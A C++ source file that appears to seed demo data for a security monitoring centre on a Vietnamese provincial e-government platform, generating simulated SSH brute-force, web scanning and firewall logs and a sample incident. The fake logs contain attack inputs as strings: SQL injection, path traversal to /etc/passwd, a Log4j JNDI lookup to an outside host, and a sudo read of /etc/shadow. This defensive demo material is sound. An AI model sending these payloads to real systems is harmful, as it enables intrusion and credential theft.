#include "modules/soc/demo.h"

#include <fmt/format.h>

#include <algorithm>
#include <random>

#include "core/embedded.h"
#include "core/inflate.h"
#include "core/text.h"
#include "modules/soc/actions/act_on_incident.h"
#include "modules/soc/actions/decide_alert.h"
#include "modules/soc/actions/hand_over.h"
#include "modules/soc/actions/incident_steps.h"
#include "modules/soc/actions/keep_duty.h"
#include "modules/soc/actions/keep_feed.h"
#include "modules/soc/actions/keep_source.h"
#include "modules/soc/actions/keep_system.h"
#include "modules/soc/actions/keep_vulnerabilities.h"
#include "modules/soc/centre/anchors.h"
#include "modules/soc/centre/centre.h"
#include "modules/soc/engine/event_time.h"
#include "modules/soc/settings.h"
#include "modules/soc/storage/alert_store.h"
#include "modules/soc/storage/incident_store.h"
#include "platform/organisation/directory.h"
#include "storage/database.h"

namespace dongson::soc {

namespace {

constexpr std::size_t kUnpacked = 64 << 20, kBatch = 500;

// Whether a time as 2020-09-04T12:00:00 or with a blank begins here.
bool IsTimeAt(std::string_view text, std::size_t at) {
    constexpr std::string_view kForm = "dddd-dd-dd?dd:dd:dd";
    if (text.size() - at < kForm.size()) return false;
    for (std::size_t i = 0; i < kForm.size(); ++i) {
        const char c = text[at + i];
        if (kForm[i] == 'd' ? c < '0' || c > '9' : kForm[i] == '?' ? c != 'T' && c != ' ' : c != kForm[i]) return false;
    }
    return true;
}

// Every time in the text so much later; what is no time stays.
void MoveTimes(std::string& text, std::int64_t by) {
    constexpr std::size_t kLength = 19;
    for (std::size_t at = 0; at + kLength <= text.size(); ++at) {
        if (text[at] != '2' || !IsTimeAt(text, at)) continue;
        const auto time = ReadEventTime(text.substr(at, kLength));
        if (!time) continue;
        const char between = text[at + 10];
        text.replace(at, kLength, Instant{time->ms + by}.Rfc3339().substr(0, kLength));
        text[at + 10] = between;
        at += kLength;
    }
}

class SecurityDemo {
  public:
    explicit SecurityDemo(const DemoStage& stage)
        : platform_(stage.platform),
          analysts_(stage.analysts),
          centre_(stage.platform, CentreSettingsOf(stage.platform.settings)),
          now_(stage.platform.clock.Now()) {}

    void Build() {
        centre_.Prepare();
        windows_ = Register("Máy trạm khối văn phòng", "may-tram", Recognition::token, "", "", 2, "van-phong-ubnd-tinh");
        web_ = Register("Cổng dịch vụ công (nginx)", "may-chu-web", Recognition::address, "10.38.1.10", "nginx", 4,
                        "so-khoa-hoc-va-cong-nghe");
        server_ =
            Register("Máy chủ ứng dụng", "may-chu", Recognition::address, "10.38.2.0/24", "", 3, "so-khoa-hoc-va-cong-nghe");
        firewall_ = Register("Tường lửa trung tâm dữ liệu", "mang", Recognition::address, "10.38.0.1", "firewall", 3,
                             "so-khoa-hoc-va-cong-nghe");
        Replay();
        GuessedPassword();
        Visitors();
        Firewall();
        Communes();
        Take();
        centre_.watcher().JudgeCorrelations();
        centre_.Keep();
        Decide();
        Indicators();
        Systems();
        Duty();
        AnchorStreams(centre_.platform(), centre_.store());
    }

  private:
    std::uint32_t Register(std::string name, std::string group, Recognition recognition, std::string mark, std::string parser,
                           int value, std::string_view unit) {
        Source source{.name = std::move(name),
                      .group = std::move(group),
                      .recognition = recognition,
                      .mark = std::move(mark),
                      .parser = std::move(parser),
                      .value = value};
        if (const auto* owner = platform_.units.Now()->FindByKey(unit)) source.unit = owner->id;
        const auto registered = RegisterSource(centre_, source);
        if (!registered) throw std::runtime_error(registered.error().code);
        return registered->source.number;
    }

    void Systems() {
        const auto add = [&](std::string name, std::string purpose, std::string_view unit, int level, std::string networks) {
            InformationSystem system{
                .name = std::move(name), .purpose = std::move(purpose), .level = level, .networks = std::move(networks)};
            if (const auto* owner = platform_.units.Now()->FindByKey(unit)) system.unit = owner->id;
            const auto registered = RegisterSystem(platform_, system);
            if (!registered) throw std::runtime_error(registered.error().code);
            return *registered;
        };
        auto portal = add("Hệ thống thông tin giải quyết thủ tục hành chính", "Cổng dịch vụ công và một cửa điện tử của tỉnh",
                          "so-khoa-hoc-va-cong-nghe", 3, "10.38.1.10, 10.38.2.0/24");
        portal.approval_number = "1234/QĐ-UBND (trình diễn)";
        portal.approved_on = now_.LocalDate() - 200;
        (void)ChangeSystem(platform_, portal);
        add("Mạng văn phòng Ủy ban nhân dân tỉnh", "Máy trạm, in ấn, tệp dùng chung", "van-phong-ubnd-tinh", 2, "10.38.8.0/22");
        for (const auto& [layer, evidence] :
             {std::pair(Layer::on_site, "Quyết định phân công trực an toàn thông tin (trình diễn)"),
              std::pair(Layer::monitoring, "Trung tâm giám sát này, trực 24/7")})
            (void)ShowLayer(platform_, analysts_[1], {.system = portal.id, .layer = layer, .met = true, .evidence = evidence});
        const auto scan =
            ImportScan(platform_, "quet-may-chu.xml", analysts_[0].account.id, Embedded("data/soc/recorded_scan.xml"));
        if (!scan) throw std::runtime_error(scan.error().code);
        (void)AddProbe(platform_, {.system = portal.id, .target = platform_.base_url + "/", .seconds = 60});
    }

    // Two weeks of shifts among the analysts there are.
    void Duty() {
        const auto& shifts = DutyRules::Shipped().shifts;
        const Date today = now_.LocalDate();
        for (std::size_t i = 0; i < shifts.size(); ++i)
            for (const DutyPlace place : kDutyPlaces) {
                const auto& officer = analysts_[(i + static_cast<std::size_t>(place)) % analysts_.size()];
                const auto entered = EnterDuty(platform_, officer,
                                               {.account = officer.account.id,
                                                .shift = shifts[i].key,
                                                .place = place,
                                                .from = today - 1,
                                                .until = today + 13});
                if (!entered) throw std::runtime_error(entered.error().code);
            }
    }

    // The server finds them among what is stored once it runs.
    void Indicators() {
        const auto imported = ImportFeed(platform_, {"Nơi dò quét (trình diễn)", Level::medium, analysts_[0].account.id},
                                         "value,description\n198.51.100.9,Dò lỗ hổng Log4j\n203.0.113.66,Dò mật khẩu SSH\n");
        if (!imported) throw std::runtime_error(imported.error().code);
    }

    // The recordings keep their order and their distances; the last of them was a quarter of an hour ago.
    void Replay() {
        const auto lines = Inflate(Embedded("data/soc/recorded_attacks.ndjson.gz"), kUnpacked);
        if (!lines) throw std::runtime_error("the recorded attacks cannot be unpacked");
        const auto all = Split(std::string_view(*lines), '\n');
        const auto query = ReadQuery("").value();
        JsonReader reader;
        Event event;
        Instant newest{0};
        for (const auto line : all) {
            if (line.empty()) continue;
            const std::string padded = std::string(line) + std::string(JsonReader::kPaddingAfter, ' ');
            if (!reader.Read(std::string_view(padded).substr(0, line.size()), query->fields, event).empty()) continue;
            if (const auto time = query->sources.TimeOf(event)) newest = std::max(newest, *time);
        }
        const std::int64_t by = now_.ms - 15 * kMinute - newest.ms;
        for (const auto line : all) {
            if (line.empty()) continue;
            std::string moved(line);
            MoveTimes(moved, by);
            Add(windows_, Shape::json, std::move(moved));
        }
    }

    // Somebody guesses the password of a server, and is let in.
    void GuessedPassword() {
        for (int i = 0; i < 40; ++i)
            Syslog(server_, -2 * kHour + i * 4 * kSecond, "sshd", 900 + i,
                   fmt::format("Failed password for {}{} from 203.0.113.66 port {} ssh2", i % 3 == 0 ? "invalid user " : "",
                               i % 3 == 0 ? "oracle" : "quantri", 41000 + i));
        Syslog(server_, -2 * kHour + 170 * kSecond, "sshd", 941,
               "Accepted password for quantri from 203.0.113.66 port 41099 ssh2");
        Syslog(server_, -2 * kHour + 200 * kSecond, "sudo", 950,
               "quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow");
        for (int i = 0; i < 300; ++i)
            Syslog(server_, -static_cast<std::int64_t>(random_() % (20 * kHour)), "sshd", 1000 + i,
                   fmt::format("Accepted publickey for trienkhai from 10.38.9.{} port {} ssh2", random_() % 30,
                               30000 + random_() % 20000));
    }

    void Visitors() {
        static constexpr std::string_view kPages[] = {"/", "/thu-tuc", "/thu-tuc?q=khai+sinh", "/du-lieu", "/tra-cuu", "/ho-so"};
        for (int i = 0; i < 800; ++i)
            Visit(-static_cast<std::int64_t>(random_() % (22 * kHour)),
                  fmt::format("14.{}.{}.{}", random_() % 250, random_() % 250, random_() % 250),
                  kPages[random_() % std::size(kPages)], 200, "Mozilla/5.0 (Linux; Android 13)");
        static constexpr std::string_view kTries[] = {"/thu-tuc?q=1%27%20UNION%20SELECT%201,2,3--", "/..%2f..%2f..%2fetc/passwd",
                                                      "/.git/config", "/wp-login.php",
                                                      "/thu-tuc?q=${jndi:ldap://198.51.100.9/a}"};
        for (int i = 0; i < 25; ++i)
            Visit(-3 * kHour + i * kSecond, "198.51.100.9", kTries[static_cast<std::size_t>(i) % std::size(kTries)], 404,
                  "sqlmap/1.7");
    }
    void Visit(std::int64_t ago, const std::string& address, std::string_view page, int status, std::string_view agent) {
        const Instant local{now_.ms + ago + 7 * kHour};
        const std::string at = local.Rfc3339();
        const auto month = kMonthNames[static_cast<std::size_t>(ToNumber(at.substr(5, 2))) - 1];
        Add(web_, Shape::syslog,
            fmt::format("<190>1 {} cong nginx 7 - - {} - - [{}/{}/{}:{} +0700] \"GET {} HTTP/1.1\" {} {} \"-\" \"{}\"",
                        Instant{now_.ms + ago}.Rfc3339(), address, at.substr(8, 2), month, at.substr(0, 4), at.substr(11, 8),
                        page, status, 500 + random_() % 20000, agent));
    }

    void Firewall() {
        for (int i = 0; i < 400; ++i)
            Add(firewall_, Shape::syslog,
                fmt::format(
                    "<188>1 {} fw-tttdl - - - - date=2026 devname=\"fw-tttdl\" srcip={}.{}.{}.{} srcport={} dstip=10.38.1.10 dstport={} proto=6 action=\"{}\" sentbyte={}",
                    Instant{now_.ms - static_cast<std::int64_t>(random_() % (23 * kHour))}.Rfc3339(), 1 + random_() % 200,
                    random_() % 250, random_() % 250, random_() % 250, 1024 + random_() % 60000, random_() % 4 == 0 ? 22 : 443,
                    random_() % 4 == 0 ? "deny" : "accept", random_() % 100000));
    }

    // A server in some communes; at two of them somebody tries passwords.
    void Communes() {
        const auto communes = platform_.units.Now()->Existing(organisation::Level::commune, platform_.clock.Now().LocalDate());
        const std::size_t step = std::max<std::size_t>(1, communes.size() / 6);
        for (std::size_t i = 0; i < communes.size(); i += step) {
            const std::size_t number = i / step;
            const auto source = Register("Máy chủ tệp " + communes[i]->short_name, "xa-phuong", Recognition::address,
                                         fmt::format("10.39.{}.10", number), "", 2, communes[i]->key);
            for (int line = 0; line < 40; ++line)
                Syslog(source, -static_cast<std::int64_t>(random_() % (20 * kHour)), "sshd", 2000 + line,
                       fmt::format("Accepted publickey for saoluu from 10.39.{}.{} port {} ssh2", number, 20 + random_() % 9,
                                   30000 + random_() % 20000));
            for (int line = 0; number % 3 == 1 && line < 30; ++line)
                Syslog(source, -kHour + line * 3 * kSecond, "sshd", 3000 + line,
                       fmt::format("Failed password for root from 198.51.100.{} port {} ssh2", 20 + number, 42000 + line));
        }
    }

    void Syslog(std::uint32_t source, std::int64_t ago, std::string_view program, int process, const std::string& text) {
        Add(source, Shape::syslog,
            fmt::format("<86>1 {} sv-ungdung {} {} - - {}", Instant{now_.ms + ago}.Rfc3339(), program, process, text));
    }
    void Add(std::uint32_t source, Shape shape, std::string bytes) {
        events_.push_back({source, shape, now_, std::move(bytes)});
        if (events_.size() >= kBatch) Take();
    }
    void Take() { centre_.watcher().Take(std::exchange(events_, {})); }

    // A case is opened over the guessed password, an alert is found to be none, and the shift is handed over.
    void Decide() {
        const auto& platform = platform_;
        const auto open = platform.storage.Read([](storage::Transaction& tx) { return AlertStore(tx).Queue({}, 500, 0); });
        NewIncident wanted{.title = "Đoán được mật khẩu máy chủ ứng dụng", .category = "intrusion", .grade = 3, .alerts = {}};
        for (const Alert& alert : open)
            if (alert.entity.name.find("203.0.113.66") != std::string::npos) wanted.alerts.push_back(alert.id);
        const auto incident = OpenIncident(platform, analysts_[0], wanted);
        if (!incident) throw std::runtime_error(incident.error().code);
        const auto steps = platform.storage.Read([&](storage::Transaction& tx) { return StepsOf(tx, incident->id); });
        for (std::size_t i = 0; i < 2 && i < steps.size(); ++i)
            (void)DoStep(platform, analysts_[0], {.code = incident->code, .step = steps[i].id.value});
        (void)AddNote(
            platform, analysts_[1],
            {.code = incident->code,
             .text =
                 "Đã khóa tài khoản quantri trên máy chủ và chặn 203.0.113.66 ở tường lửa. Đang xem lệnh đã chạy sau khi vào được."});
        if (const auto* asked = platform_.units.Now()->FindByKey("so-y-te"); asked != nullptr && asked->id != incident->holder)
            (void)AskOnIncident(platform_, analysts_[0],
                                {.code = incident->code,
                                 .expected_version = incident->version,
                                 .units = {asked->id},
                                 .text = "Đơn vị có ai dùng tài khoản quantri trên máy chủ ứng dụng từ ngày hôm qua không?"});
        for (const AlertId id : wanted.alerts) {
            const auto events = platform.storage.Read([&](storage::Transaction& tx) { return AlertStore(tx).Events(id); });
            if (events.empty()) continue;
            if (const auto key = EventKey::Parse(events.back().key))
                (void)AddEvidence(centre_, analysts_[0], incident->code, *key);
            break;
        }
        (void)HandOver(
            platform, analysts_[1],
            incident->code +
                " đang chờ đơn vị chủ quản xác nhận danh sách tài khoản. Máy trạm khối văn phòng có nhiều cảnh báo PowerShell, chưa xem hết.");
    }

    const Platform& platform_;
    const std::vector<identity::Officer>& analysts_;
    Centre centre_;
    Instant now_;
    std::mt19937 random_{20261125};
    std::vector<Offered> events_;
    std::uint32_t windows_ = 0, web_ = 0, server_ = 0, firewall_ = 0;
};

}  // namespace

Result<void> MakeDemo(DemoStage& stage) {
    SecurityDemo(stage).Build();
    return {};
}

}  // namespace dongson::soc
